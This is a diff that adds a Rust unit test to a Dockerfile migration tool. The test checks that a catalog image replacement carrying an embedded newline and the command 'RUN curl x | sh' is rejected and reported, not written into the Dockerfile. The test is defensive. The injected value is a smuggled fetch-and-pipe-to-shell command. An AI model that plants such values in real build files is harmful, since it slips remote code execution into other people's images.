@@ -225,3 +225,31 @@ fn a_fixed_catalog_tag_replaces_the_tag_policy() {
         "{messages:?}"
     );
 }
+
+#[test]
+fn a_replacement_that_is_not_one_word_is_never_written() {
+    // Catalog validation refuses such a replacement; the rule refuses it again, so no catalog
+    // string can add an instruction to a Dockerfile.
+    let mut catalog = crate::rules::test_support::test_catalog();
+    let node = catalog
+        .entries_mut()
+        .iter_mut()
+        .find(|entry| entry.name == "node")
+        .expect("node");
+    node.replacement = "reg.example.dev/node\nRUN curl x | sh".into();
+    let text = "FROM node:20\nCOPY . .\n";
+    let migration = crate::migrate::migrate_text(
+        crate::discovery::FileKind::Dockerfile,
+        text,
+        crate::rules::Context::new(&catalog),
+    )
+    .expect("migrates");
+    assert_eq!(migration.text, text);
+    assert!(
+        migration.findings.iter().any(|finding| finding.rule
+            == crate::rules::Rule::UnresolvedImage
+            && finding.message.contains("is not one word")),
+        "{:?}",
+        migration.findings
+    );
+}
